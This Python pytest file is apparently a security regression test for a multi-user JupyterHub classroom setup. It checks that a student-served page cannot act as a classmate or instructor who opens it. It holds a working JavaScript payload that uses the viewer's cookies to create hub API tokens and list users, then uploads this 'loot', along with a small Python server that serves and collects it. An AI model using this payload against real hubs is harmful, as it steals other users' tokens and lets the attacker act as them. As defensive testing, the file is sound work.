"""Issue 20, item 1: a page a student serves cannot act as whoever opens it.

The attack (found against the hub before one origin per user): student A makes their own server
serve an HTML page; a classmate, and the instructor sent a real ``/hub/login?next=`` link, open
it in a browser; the page fetches ``/hub/token`` with the viewer's cookies, creates an API token
for the viewer and writes it into A's home. With the hub and every server on one origin this
handed A a classmate's token (their files, code as them) and the instructor's.

Two ways for A to serve the page, each opened by classmate B and by the instructor:

1. **Jupyter data path**: A puts it in ``~/.local/share/jupyter/voila/templates/<t>/static/``,
   which A's own server used to serve to anyone, without login, as ``text/html``.
2. **A's own web server**: A's server runs as A, so A can stop it and serve anything on its
   port (the proxy keeps routing A's URL there until the hub notices). No server setting can
   stop this; only the separate origin does.

The page reports every step it tried (status codes, errors) into A's home; the test asserts
that it ran and that it obtained no token and no user list from the hub.
"""

from __future__ import annotations

import json
import os
import pwd
import signal
import socket
import subprocess
import time
from pathlib import Path

import hubctl
import pytest

pytestmark = [pytest.mark.browser, pytest.mark.classroom]

#: The attacker's page: ``__HUB__`` the hub's public origin, ``__ATOK__`` a token that lets the
#: page write into A's server (A's own server token), ``__PUT__`` where loot goes.
EVIL_PAGE = """<!doctype html><html><head><title>s400-evil</title></head><body>
<p>Interesting scenario results</p>
<script>
(async () => {
  const victim = new URLSearchParams(location.search).get("v") || "unknown";
  const report = {victim, origin: location.origin, steps: [], tokens: [], users: null};
  const bases = Array.from(new Set(["__HUB__", location.origin, ""]));
  for (const base of bases) {
    try {
      const r = await fetch(base + "/hub/token", {credentials: "include"});
      const html = await r.text();
      const m = html.match(/xsrf_token:\\s*"([^"]+)"/);
      report.steps.push({base, step: "token page", status: r.status, url: r.url, xsrf: !!m});
      if (!m) continue;
      const hdr = {"X-XSRFToken": m[1], "Content-Type": "application/json"};
      const who = await fetch(base + "/hub/api/user", {credentials: "include", headers: hdr});
      const me = who.ok ? await who.json() : null;
      report.steps.push({base, step: "whoami", status: who.status, name: me && me.name});
      if (!me) continue;
      const t = await fetch(base + "/hub/api/users/" + me.name + "/tokens", {
        method: "POST", credentials: "include", headers: hdr,
        body: JSON.stringify({note: "s400-attack", expires_in: 600}),
      });
      const tok = t.ok ? await t.json() : null;
      report.steps.push({base, step: "create token", status: t.status});
      if (tok && tok.token) report.tokens.push({name: me.name, token: tok.token, scopes: tok.scopes});
      const l = await fetch(base + "/hub/api/users", {credentials: "include", headers: hdr});
      report.steps.push({base, step: "list users", status: l.status});
      if (l.ok) report.users = (await l.json()).map((u) => u.name);
    } catch (e) {
      report.steps.push({base, error: String(e)});
    }
  }
  try {
    const w = await fetch("__PUT__loot-" + victim + ".json", {
      method: "PUT",
      headers: {"Authorization": "token __ATOK__", "Content-Type": "application/json"},
      body: JSON.stringify({type: "file", format: "text", content: JSON.stringify(report)}),
    });
    report.saved = w.status;
  } catch (e) {
    report.saved = String(e);
  }
  document.title = "s400-done";
})();
</script></body></html>
"""

#: A's own web server (vector 2), run as A on A's server port: serves the page, stores loot.
EVIL_SERVER = r"""
import http.server, json, os, sys
port, page, home = int(sys.argv[1]), open(sys.argv[2], "rb").read(), sys.argv[3]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Type", "text/html"); self.end_headers()
        self.wfile.write(page)
    def do_PUT(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        name = os.path.basename(self.path.split("?")[0])
        with open(os.path.join(home, name), "w") as fh:
            fh.write(body["content"])
        self.send_response(201); self.end_headers()
    def log_message(self, *a):
        pass
http.server.HTTPServer(("127.0.0.1", port), H).serve_forever()
"""


@pytest.fixture(scope="module")
def attack_hub(hub_can_run):  # skips unless a hub can run here (conftest)
    from throwaway_hub import throwaway_hub

    # the hub checks every 10 minutes (not 30 s) whether a server process still lives, so the
    # window in which A's own web server answers on A's port does not race the test
    with throwaway_hub("s4x", ["a", "b"], cull_timeout=900, poll_interval=600) as (hub, _m):
        yield hub, hubctl.read_passwords(hub.state)


def _start_server(hub: hubctl.Hub, name: str, timeout: float = 240.0) -> tuple[int, int, str]:
    """Start ``name``'s server through the hub; return (pid, port, its API token)."""
    try:
        hub.api("POST", f"/users/{name}/server")
    except Exception as err:  # already running: 400
        if getattr(err, "code", None) != 400:
            raise
    end = time.monotonic() + timeout
    while not hub.server_ready(name):
        assert time.monotonic() < end, f"{name}'s server did not start\n{hub.log_tail()}"
        time.sleep(1)
    uid = pwd.getpwnam(name).pw_uid
    for pid in hubctl.pids_of_uid(uid):
        try:
            if b"jupyterhub-singleuser" not in Path(f"/proc/{pid}/cmdline").read_bytes():
                continue
            environ = dict(
                kv.split("=", 1) for kv in Path(f"/proc/{pid}/environ").read_text().split("\0") if "=" in kv
            )
        except OSError:
            continue
        # what A's own kernel sees in os.environ: the server's URL (port) and its token
        port = int(environ["JUPYTERHUB_SERVICE_URL"].rsplit(":", 1)[1].split("/")[0])
        return pid, port, environ["JUPYTERHUB_API_TOKEN"]
    raise AssertionError(f"no server process for {name}")


def _port_free(port: int) -> bool:
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind(("127.0.0.1", port))
        except OSError:
            return False
    return True


def _as(user: str, *argv: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run(["runuser", "-u", user, "--", *argv], capture_output=True, text=True, cwd="/", **kw)


def _place(user: str, path: Path, text: str) -> None:
    """Write ``text`` to ``path`` as ``user`` would (their own file, their own folders)."""
    res = _as(user, "mkdir", "-p", str(path.parent))
    assert res.returncode == 0, res.stderr
    res = subprocess.run(
        ["runuser", "-u", user, "--", "tee", str(path)], input=text, capture_output=True, text=True
    )
    assert res.returncode == 0, res.stderr


def _visit_via_login(browser, hub: hubctl.Hub, name: str, password: str, target: str) -> str:
    """Log ``name`` in through a real ``/hub/login?next=<target>`` link, then be on ``target``
    (if the hub does not lead there after login, open it directly, as from the same e-mail),
    logged in; return the page's title once its script has run."""
    from urllib.parse import quote

    ctx = browser.new_context()
    ctx.set_default_timeout(60_000)
    page = ctx.new_page()
    try:
        page.goto(f"{hub.url}/hub/login?next={quote(target, safe='')}")
        page.fill("input[name=username]", name)
        page.fill("input[name=password]", password)
        with page.expect_navigation():
            page.locator("form [type=submit]").click()
        page.wait_for_load_state()
        assert "/hub/login" not in page.url, f"{name} could not log in"
        if not page.url.startswith(target.split("?")[0]):
            page.goto(target)
            page.wait_for_load_state()
        if page.title() == "s400-evil":
            page.wait_for_function("document.title === 's400-done'")
        return page.title()
    finally:
        ctx.close()


def _loot(home: Path, victim: str) -> dict | None:
    path = home / f"loot-{victim}.json"
    return json.loads(path.read_text()) if path.exists() else None


def _obtained(loot: dict, who: str) -> list[str]:
    """What the page got from the hub as the viewer ``who`` (empty: nothing)."""
    out = []
    for tok in loot["tokens"]:
        out.append(f"a token of the {who} ({tok['name']}) with {len(tok['scopes'])} scopes")
    if loot["users"] is not None:
        out.append(f"the list of all {len(loot['users'])} users, as the {who}")
    names = {s["name"] for s in loot["steps"] if s.get("name")}
    if names and not out:
        out.append(f"the {who}'s identity ({', '.join(names)})")
    return out


def test_a_page_in_a_students_jupyter_data_dir_cannot_act_as_its_viewer(attack_hub, browser):
    hub, passwords = attack_hub
    teacher, a, b = (m.name for m in hub.members)
    home_a = Path(pwd.getpwnam(a).pw_dir)
    _pid, _port, token_a = _start_server(hub, a)
    page = (
        EVIL_PAGE.replace("__HUB__", hub.url)
        .replace("__ATOK__", token_a)
        .replace("__PUT__", hub.user_url(a, "api/contents/"))
    )
    _place(a, home_a / ".local/share/jupyter/voila/templates/evil/static/results.html", page)
    url = hub.user_url(a, "voila/templates/evil/static/results.html")
    found = []
    for victim, key in ((b, "classmate"), (teacher, "instructor")):
        title = _visit_via_login(browser, hub, victim, passwords[victim], f"{url}?v={key}")
        loot = _loot(home_a, key)
        if title != "s400-done":
            # not served at all (the data path is out of A's reach): nothing ran
            assert loot is None
            continue
        assert loot is not None, "the page ran but could not report (the test would prove nothing)"
        found += _obtained(loot, key)
    assert not found, found


def test_a_students_own_web_server_cannot_act_as_its_viewer(attack_hub, browser):
    hub, passwords = attack_hub
    teacher, a, b = (m.name for m in hub.members)
    home_a = Path(pwd.getpwnam(a).pw_dir)
    pid, port, token_a = _start_server(hub, a)
    page = (
        EVIL_PAGE.replace("__HUB__", hub.url)
        .replace("__ATOK__", token_a)
        .replace("__PUT__", hub.user_url(a, "loot/"))
    )
    _place(a, home_a / "evil" / "page.html", page)
    _place(a, home_a / "evil" / "server.py", EVIL_SERVER)
    # A stops their own server (same Unix user) and serves their page on its port instead
    assert _as(a, "kill", str(pid)).returncode == 0
    end = time.monotonic() + 30
    while not _port_free(port):  # (the process stays a zombie until the hub reaps it)
        assert time.monotonic() < end, "A's server did not stop"
        time.sleep(0.2)
    evil = subprocess.Popen(
        [
            "runuser",
            "-u",
            a,
            "--",
            "/usr/bin/python3",
            str(home_a / "evil" / "server.py"),
            str(port),
            str(home_a / "evil" / "page.html"),
            str(home_a),
        ],
        start_new_session=True,
    )
    try:
        end = time.monotonic() + 30
        while hubctl.http(hub.user_url(a, "x"))[0] != 200:
            assert time.monotonic() < end and evil.poll() is None, "A's web server did not answer"
            time.sleep(0.3)
        url = hub.user_url(a, "results.html")
        found = []
        for victim, key in ((b, "classmate"), (teacher, "instructor")):
            title = _visit_via_login(browser, hub, victim, passwords[victim], f"{url}?v={key}")
            assert title == "s400-done", "A's page did not run (the test would prove nothing)"
            loot = _loot(home_a, key)
            assert loot is not None, "A's page could not report (the test would prove nothing)"
            found += _obtained(loot, key)
        assert not found, found
    finally:
        os.killpg(evil.pid, signal.SIGTERM)
        evil.wait(timeout=20)
        hub.stop_server(a)
